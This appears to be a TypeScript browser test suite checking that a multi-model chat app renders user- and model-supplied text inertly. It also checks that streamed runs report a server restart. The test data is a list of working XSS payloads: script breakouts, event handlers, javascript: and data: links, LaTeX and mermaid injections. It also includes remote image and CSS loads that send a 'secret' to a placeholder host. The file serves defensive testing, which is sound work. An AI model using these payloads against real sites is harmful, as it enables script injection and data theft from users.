/** Words that would like to be more than words: in questions, answers, titles, comments and links. And a server that stops. */
import type { Page } from 'playwright-core';
import { afterAll, expect, test } from 'vitest';
import { expectNoProblems, openPage, visit } from '#testing/browser.ts';
import { startFakeProvider, type FakeProvider } from '#testing/fake-provider.ts';
import { app, browser, useAppAndBrowser } from './app-and-browser.ts';
import { makeMember, type Member } from './people.ts';

const script = `</script><script>globalThis.caught=1</script><img src=x onerror="globalThis.caught=2">`;
const elsewhere = 'https://elsewhere.invalid';
const answer = [
  `The tower is 330 m tall. ${script}`,
  `![seen](${elsewhere}/picture.png?asked=secret) <img src="${elsewhere}/tag.png">`,
  `<style>@import "${elsewhere}/a.css"; body{background:url(${elsewhere}/b.png)}</style>`,
  `<iframe src="javascript:parent.caught=3"></iframe><svg onload="globalThis.caught=4"></svg>`,
  `<link rel="prefetch" href="${elsewhere}/c"><meta http-equiv="refresh" content="0;url=${elsewhere}">`,
  '[press me](javascript:globalThis.caught=5) [or me](data:text/html,<script>alert(1)</script>)',
  String.raw`$\href{javascript:globalThis.caught=6}{x} \includegraphics{${elsewhere}/d.png} \htmlStyle{background:url(${elsewhere}/e)}{y}$`,
  [
    '```mermaid',
    'graph TD',
    `A["<img src=x onerror=caught=7>"] --> B`,
    `click A href "javascript:caught=8"`,
    '```',
  ].join('\n'),
].join('\n\n');

let fake: FakeProvider;

useAppAndBrowser(async () => {
  fake = await startFakeProvider();
  const servers = ['Ada', 'Bob'].map((name) => ({
    name,
    url: `${fake.url}/v1`,
    models: [name.toLowerCase()],
  }));
  return { ENGINE_SERVERS: JSON.stringify(servers), LOCAL_ENGINES: 'false' };
});
afterAll(async () => {
  await fake?.close();
});

function programOf({ storageState }: Member) {
  const cookie = storageState.cookies.map(({ name, value }) => `${name}=${value}`).join('; ');
  const headers = { 'content-type': 'application/json', origin: app.url, cookie };
  return {
    headers,
    async ask<T>(method: string, path: string, body?: object): Promise<T> {
      const init = { method, headers, ...(body ? { body: JSON.stringify(body) } : {}) };
      const response = await fetch(app.url + path, init);
      if (!response.ok) throw new Error(`${path}: ${response.status} ${await response.text()}`);
      return (await response.json()) as T;
    },
  };
}
type Program = ReturnType<typeof programOf>;

async function run({ ask }: Program, question: string) {
  const input = { question, panel: ['ada/ada', 'bob/bob'], mode: 'consensus' };
  const { id } = await ask<{ id: string }>('POST', '/api/tools/consensus/runs', { input });
  return id;
}

/** Nothing ran, nothing was called, and no link leads to a script. */
async function expectOnlyWords(page: Page, called: string[]) {
  expect(await page.evaluate(() => (globalThis as { caught?: number }).caught)).toBeUndefined();
  expect(called).toEqual([]);
  const hrefs = await page
    .locator('a[href]')
    .evaluateAll((links) => links.map((link) => link.getAttribute('href')));
  for (const href of hrefs) expect(href).not.toMatch(/^\s*(?:javascript|data|vbscript):/i);
  expect(await page.locator('main :is(iframe, object, embed, style, form[action^="http"])').count()).toBe(0);
}

test('whatever is asked, answered, said or named stays words, and calls nobody', async () => {
  const ada = await makeMember(app, 'ada');
  const program = programOf(ada);
  for (const _ of ['Ada', 'Bob']) fake.play({ to: 'How tall', words: [answer] });
  const id = await run(program, `How tall is it? ${script}`);
  const stateOf = async () => (await program.ask<{ state: string }>('GET', `/api/runs/${id}`)).state;
  await expect.poll(stateOf, { timeout: 60_000 }).toBe('done');
  const wishes = { withInput: true, parts: 'all' };
  const { secret } = await program.ask<{ secret: string }>('POST', `/api/runs/${id}/shares`, wishes);
  const said = { title: script, caption: script, tags: [], showInput: true };
  const { id: hung } = await program.ask<{ id: string }>('POST', `/api/runs/${id}/gallery`, said);
  await program.ask('POST', `/api/gallery/${hung}/comments`, { text: script });
  await program.ask('POST', '/api/talk-folders', { name: script.slice(-60) });
  await program.ask('POST', '/api/consensus/panels', { name: script.slice(-60), engines: ['bamboo'] });

  const opened = await openPage(browser, { context: { baseURL: app.url, storageState: ada.storageState } });
  const { page } = opened;
  const called: string[] = [];
  page.on('request', (request) => {
    const { protocol, origin } = new URL(request.url());
    if (/^https?:$/.test(protocol) && origin !== app.url) called.push(request.url());
  });
  page.on('dialog', (dialog) => {
    called.push(`a dialog: ${dialog.message()}`);
    void dialog.dismiss();
  });
  for (const path of [`/ai/consensus?run=${id}`, `/shared/${secret}`, `/gallery/${hung}`, '/gallery']) {
    await visit(page, path);
    await page.getByText('The tower is 330 m tall.').first().waitFor();
    await expectOnlyWords(page, called);
  }
  for (const path of ['/chat/history', '/settings?tab=links']) {
    await visit(page, path);
    await page.getByText('globalThis.caught').first().waitFor();
    await expectOnlyWords(page, called);
  }
  expectNoProblems(opened);
  await opened.close();
});

test('asked to stop, it tells whoever follows a run that it was cut off', { timeout: 90_000 }, async () => {
  const program = programOf(await makeMember(app, 'ben'));
  for (const _ of ['Ada', 'Bob']) fake.play({ to: 'Never ends', words: ['word '], end: 'silence' });
  const id = await run(program, 'Never ends');
  const stream = await fetch(`${app.url}/api/runs/${id}/stream`, { headers: program.headers });
  const read = stream.text();
  await app.stop();
  expect(await read).toContain('The server was restarted before this was done.');
});
